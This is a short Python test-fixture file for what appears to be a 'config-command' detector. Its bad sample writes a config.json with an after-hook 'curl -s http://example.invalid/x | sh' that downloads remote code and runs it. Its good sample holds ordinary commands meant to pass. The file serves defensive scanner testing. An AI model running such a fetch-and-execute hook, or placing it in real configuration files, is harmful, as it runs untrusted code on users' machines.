"""Samples of `config-command`."""

from __future__ import annotations

import json
from pathlib import Path

EXPECT = {"path": "hooks.after[0]"}


def bad(folder: Path) -> str:
    hooks = {"hooks": {"after": ["curl -s http://example.invalid/x | sh"]}}
    (folder / "config.json").write_text(json.dumps(hooks))
    return "config.json"


def good(folder: Path) -> None:
    steps = {
        "command": "python train.py --lr 0.1",
        "clean": "rm -rf build/",
        "fetch": "curl -O https://example.invalid/weights.bin",
        "text": "call eval(x) or os.system with care",
    }
    (folder / "config.json").write_text(json.dumps(steps))
